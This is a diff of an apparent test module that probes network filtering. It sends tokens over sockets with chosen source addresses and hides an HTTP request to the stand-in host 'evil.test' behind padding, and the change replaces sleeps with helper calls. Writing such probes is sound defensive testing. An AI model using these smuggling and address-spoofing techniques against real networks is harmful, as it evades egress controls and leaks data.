@@ -2,9 +2,9 @@
 """
 import socket
 import struct
-import time
 
-from attempts import attempt, family, tcp
+from attempts import attempt, family, stay, tcp
+from checks import comes
 
 MSG_FASTOPEN = 0x20000000
 SEGMENT = 1448  # of a connection with timestamps over Ethernet
@@ -36,7 +36,7 @@ def by_lo(a):
             info = (41, 50, b"\0" * 16 + struct.pack("@I", lo)) if v6 else (0, 8, struct.pack("@i8x", lo))
             s.sendmsg([a["token"].encode()], [info] if a["how"] == "message" else [], 0, (a["to"], a["port"]))
         errors.append(attempt(go)[1])
-    time.sleep(0.2)
+    stay(0.2)
     return {"errors": errors}
 
 
@@ -79,7 +79,7 @@ def hidden_request(a):
         data += b"GET /%s HTTP/1.1\r\nHost: evil.test\r\n\r\n" % a["token"].encode()
         data += b"." * 20000
         out.append(attempt(lambda: s.sendall(data))[1])
-        time.sleep(0.05)
+        stay()
         s.close()
     return {"errors": out}
 
@@ -108,9 +108,7 @@ def after_flush(a):
     s.sendall(b"GET /first HTTP/1.1\r\nHost: %s\r\n\r\n" % a["name"].encode())
     first = attempt(lambda: s.recv(4096))
     print("READY", flush=True)
-    end = time.monotonic() + 8
-    while not os.path.exists(a["file"]) and time.monotonic() < end:
-        time.sleep(0.02)
+    comes(lambda: os.path.exists(a["file"]), 8)
     host = a["host"].encode()
     e = attempt(lambda: s.sendall(b"GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a["token"].encode(), host)))[1]
     back = attempt(lambda: s.recv(4096))
